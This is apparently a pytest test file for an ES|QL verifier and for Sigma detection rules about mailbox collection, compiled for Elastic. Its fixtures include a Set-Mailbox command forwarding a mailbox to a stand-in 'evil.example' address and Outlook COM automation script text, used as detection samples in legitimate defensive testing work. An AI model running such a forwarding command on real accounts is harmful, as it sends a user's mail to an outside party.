"""The ES|QL verifier, with Elastic's ES|QL parser, and the pack's ES|QL emission."""

import pytest
from sigma.collection import SigmaCollection

from t1114.events import Event, flatten
from t1114.schema import elastic_dataset_fields
from t1114.targets import all_targets
from t1114.verify import esql
from t1114.verify.base import Context, QuerySyntaxError, Unverifiable

CTX = Context("elastic", ("@timestamp",), field_types=elastic_dataset_fields())


def ev(t, action, user, dataset="o365.audit"):
    return {
        "@timestamp": t,
        "data_stream": {"dataset": dataset},
        "event": {"action": action},
        "user": {"id": user},
    }


def run(query, *docs):
    return esql.evaluate(esql.parse(query), [Event(i, flatten(d)) for i, d in enumerate(docs)], CTX)


def test_comparisons_are_case_sensitive_and_three_valued():
    docs = (
        ev("2026-01-01T10:00:00Z", "Set-Mailbox", "a"),
        ev("2026-01-01T10:00:00Z", "set-mailbox", "a"),
        {"data_stream": {"dataset": "o365.audit"}},
    )
    assert run('from * | where event.action == "Set-Mailbox"', *docs) == {0}
    assert run('from * | where to_lower(event.action) == "set-mailbox"', *docs) == {0, 1}
    assert run('from * | where not event.action like "Set*"', *docs) == {
        1
    }  # the null row drops out
    assert run("from logs-other-* | where event.action is not null", *docs) == set()


def test_like_escapes_with_backslash():
    doc = {"data_stream": {"dataset": "o365.audit"}, "event": {"action": "C:\\dir\\*x"}}
    assert run('from * | where event.action like "C:\\\\\\\\dir*"', doc) == {0}
    assert run('from * | where event.action like "C:\\\\dir*"', doc) == set()  # \d is an escaped d
    assert run('from * | where event.action like "*\\\\*x"', doc) == {0}


def test_stats_groups_by_buckets_and_exact_keys():
    q = "from * | eval b=date_trunc(1 hour, @timestamp) | stats n=count() by b, user.id | where n >= 2"
    case_differs = (ev("2026-01-01T10:05:00Z", "x", "u"), ev("2026-01-01T10:15:00Z", "x", "U"))
    hours_apart = (ev("2026-01-01T10:05:00Z", "x", "u"), ev("2026-01-01T12:15:00Z", "x", "u"))
    assert run(q, *case_differs) == set()
    assert run(q, *hours_apart) == set()


def test_a_verdict_that_depends_on_where_the_bucket_edges_fall_is_unverified():
    tumbling = "from * | eval b=date_trunc(1 hour, @timestamp) | stats n=count() by b, user.id | where n >= 2"
    # Recorded in one hour (10:05, 10:55), but real events fall anywhere relative to the edges.
    with pytest.raises(Unverifiable, match="window edges"):
        run(tumbling, ev("2026-01-01T10:05:00Z", "x", "u"), ev("2026-01-01T10:55:00Z", "x", "u"))
    with pytest.raises(Unverifiable, match="window edges"):  # either side of 11:00
        run(tumbling, ev("2026-01-01T10:55:00Z", "x", "u"), ev("2026-01-01T11:05:00Z", "x", "u"))


def test_overlapping_windows_through_a_multivalued_group_key():
    # Each row joins two one-hour windows, starting every 30 minutes: events up to 30 minutes
    # apart always share one, wherever the edges fall.
    hopping = (
        "from * | eval w=mv_append(date_trunc(1 hour, @timestamp), date_trunc(1 hour, @timestamp + 30 minutes) - 30 minutes)"
        " | stats n=count() by w, user.id | where n >= 2"
    )
    assert run(
        hopping, ev("2026-01-01T10:55:00Z", "x", "u"), ev("2026-01-01T11:05:00Z", "x", "u")
    ) == {0, 1}
    assert run(
        hopping, ev("2026-01-01T10:00:00Z", "x", "u"), ev("2026-01-01T10:30:00Z", "x", "u")
    ) == {0, 1}
    assert (
        run(hopping, ev("2026-01-01T10:00:00Z", "x", "u"), ev("2026-01-01T11:00:00Z", "x", "u"))
        == set()
    )
    with pytest.raises(Unverifiable, match="window edges"):  # 45 minutes: only some alignments
        run(hopping, ev("2026-01-01T10:00:00Z", "x", "u"), ev("2026-01-01T10:45:00Z", "x", "u"))


def test_a_whole_day_is_a_date_period_truncated_like_a_duration():
    # ES|QL types "1 day" as a date_period (calendar time), not a time_duration.
    daily = (
        "from * | eval w=mv_append(date_trunc(1 day, @timestamp), date_trunc(1 day, @timestamp + 12 hours) - 12 hours)"
        " | stats n=count() by w, user.id | where n >= 2"
    )
    late, early = ev("2026-01-01T23:00:00Z", "x", "u"), ev("2026-01-02T01:00:00Z", "x", "u")
    assert run(daily, late, early) == {0, 1}
    a_day_apart = (ev("2026-01-01T00:00:00Z", "x", "u"), ev("2026-01-02T00:00:00Z", "x", "u"))
    assert run(daily, *a_day_apart) == set()
    weekly = "from * | eval w=date_trunc(1 week, @timestamp) | stats n=count() by w"
    # Weeks start on Monday, not at the epoch: not modelled.
    with pytest.raises(Unverifiable, match="date period"):
        run(weekly, late)


def test_case_takes_the_first_true_condition_and_null_is_not_true():
    q = 'from * | eval f=case(event.action == "a", 1, user.id == "u", 2, 0) | where f == {}'
    docs = (
        ev("2026-01-01T10:00:00Z", "a", "u"),
        ev("2026-01-01T10:00:00Z", "b", "u"),
        {"data_stream": {"dataset": "o365.audit"}},
    )
    assert run(q.format(1), *docs) == {0}
    assert run(q.format(2), *docs) == {1}
    assert run(q.format(0), *docs) == {2}  # both conditions null on the empty document


def script_block(text, dataset="windows.powershell_operational"):
    return {
        "data_stream": {"dataset": dataset},
        "event": {"code": "4104"},
        "powershell": {"file": {"script_block_text": text}},
    }


def test_text_fields_are_read_as_their_whole_value():
    text = "$o = New-Object -ComObject Outlook.Application\n$o.GetNamespace('MAPI')"
    docs = (
        script_block(text),
        script_block(text.upper(), "windows.forwarded"),
        script_block("Get-Date"),
    )
    q = 'from * | where to_lower(powershell.file.script_block_text) rlike ".*outlook\\\\.application.*getnamespace.*"'
    assert run(q, *docs) == {0, 1}  # "." of a Lucene regex spans lines; TO_LOWER folds the case
    assert run(
        'from * | where powershell.file.script_block_text like "*Outlook.Application*"', *docs
    ) == {0}
    with pytest.raises(Unverifiable, match="multivalued"):
        run('from * | where powershell.file.script_block_text like "*x*"', script_block(["a", "b"]))


def event_rule(n: int, name: str, logsource: str, selection: str) -> str:
    return f"""
title: {name}
id: 6a1f0c11-0000-4000-8000-0000000000{n:02d}
name: {name}
status: test
logsource: {logsource}
detection:
  sel: {selection}
  condition: sel
level: low
"""


def correlation(n: int, name: str, spec: str) -> str:
    return f"""
title: {name}
id: 6a1f0c11-0000-4000-8000-0000000000{n:02d}
name: {name}
status: test
correlation: {spec}
level: high
"""


def compile_elastic(*documents: str):
    collection = SigmaCollection.from_yaml("---".join(documents))
    collection.resolve_rule_references()
    return all_targets()["elastic"].compile_rule(collection, str(collection.rules[-1].id))


def test_pack_emission_ignores_case_and_lowers_group_keys():
    compiled = compile_elastic(
        event_rule(1, "one", "{product: m365, service: exchange}", "{Operation: Set-Mailbox}"),
        correlation(
            2,
            "many",
            "{type: event_count, rules: [one], group-by: [UserId], timespan: 1h, condition: {gte: 2}}",
        ),
    )
    assert compiled.language == "esql"
    assert 'to_lower(event.action)=="set-mailbox"' in compiled.text
    assert "t1114_key0=to_lower(to_string(user.id))" in compiled.text
    docs = (
        ev("2026-01-01T10:05:00Z", "set-mailbox", "Alice"),
        ev("2026-01-01T10:15:00Z", "SET-MAILBOX", "alice"),
    )
    for d in docs:
        d["event"]["provider"] = "exchange"
    assert run(compiled.text, *docs) == {0, 1}


def test_pack_emission_negates_a_missing_field_as_sigma_does():
    from t1114.targets.elastic import PackEsqlBackend

    rule = SigmaCollection.from_yaml(
        """
title: n
id: 6a1f0c11-0000-4000-8000-000000000003
name: n
status: test
logsource: {product: m365, service: exchange}
detection:
  sel: {Operation: Set-Mailbox}
  filter: {UserId|startswith: 'NT AUTHORITY'}
  condition: sel and not filter
level: low
"""
    )
    (query,) = PackEsqlBackend(
        processing_pipeline=all_targets()["elastic"].query_pipeline()
    ).convert(rule)
    assert "not coalesce(" in query
    base = {
        "data_stream": {"dataset": "o365.audit"},
        "event": {"action": "Set-Mailbox", "provider": "Exchange"},
    }
    system = {**base, "user": {"id": "NT AUTHORITY\\SYSTEM"}}
    assert run(query, base, system) == {0}


def test_syntax_errors_and_unmodelled_commands():
    with pytest.raises(QuerySyntaxError):
        esql.parse("from * | where x ==")
    with pytest.raises(Unverifiable):
        run("from * | mv_expand user.id", ev("2026-01-01T10:05:00Z", "x", "u"))


def test_pack_temporal_correlation_counts_rules_not_events():
    script = "{product: windows, category: ps_script}"
    compiled = compile_elastic(
        event_rule(11, "automation", script, "{ScriptBlockText|contains: Outlook.Application}"),
        event_rule(
            12, "forwarding", script, "{ScriptBlockText|re|i: 'Set-Mailbox.*-ForwardingSmtp'}"
        ),
        correlation(
            13,
            "both",
            "{type: temporal, rules: [automation, forwarding], group-by: [Computer], timespan: 30m, condition: {gte: 2}}",
        ),
    )
    assert compiled.language == "esql"

    def block(t, text, host="WS01"):
        return {**script_block(text), "@timestamp": t, "host": {"name": host}}

    automation = "$o = new-object -comobject OUTLOOK.APPLICATION"
    forwarding = "set-mailbox bob -forwardingsmtpaddress smtp:x@evil.example"
    # One event holding both signals counts for both rules.
    assert run(compiled.text, block("2026-01-01T10:00:00Z", automation + "\n" + forwarding)) == {0}
    # Two events ten minutes apart (either side of 10:30), host names differing in case.
    assert run(
        compiled.text,
        block("2026-01-01T10:25:00Z", automation),
        block("2026-01-01T10:35:00Z", forwarding, "ws01"),
    ) == {0, 1}
    # The same signal twice is one rule; other hosts do not count.
    assert (
        run(
            compiled.text,
            block("2026-01-01T10:00:00Z", automation),
            block("2026-01-01T10:01:00Z", automation),
        )
        == set()
    )
    assert (
        run(
            compiled.text,
            block("2026-01-01T10:00:00Z", automation),
            block("2026-01-01T10:01:00Z", forwarding, "WS02"),
        )
        == set()
    )


def test_queries_on_the_packs_data_streams_are_analysed_against_their_mappings():
    ok = 'from logs-windows.powershell_operational-* | where to_lower(powershell.file.script_block_text) like "*x*"'
    assert len(esql.parse(ok).commands) == 2  # parsed and analysed: the field is in the mapping
    with pytest.raises(
        QuerySyntaxError, match="Unknown field 'destination.port'"
    ):  # not in PowerShell events
        esql.parse("from logs-windows.powershell_operational-* | where destination.port == 25")
    with pytest.raises(QuerySyntaxError, match="Cannot compare"):
        esql.parse('from logs-windows.sysmon_operational-* | where destination.port == "25"')
    # Fields under a dynamic template resolve by name; FROM * has no one mapping to check against.
    esql.parse("from logs-o365.audit-* | where o365.audit.Parameters.ForwardTo is not null")
    esql.parse("from * | where no.such.field == 1")


def test_replace_reads_java_group_references():
    q = 'from * | eval d = replace(to_lower(event.action), "^(?:.*\\\\[)?smtp:(.*?)\\\\]?$", "$1") | where d == "a@b.example"'
    docs = (
        ev("2026-01-01T10:00:00Z", '"A" [SMTP:A@B.example]', "u"),
        ev("2026-01-01T10:00:00Z", "smtp:a@b.example", "u"),
        ev("2026-01-01T10:00:00Z", "a@c", "u"),
    )
    assert run(q, *docs) == {0, 1}
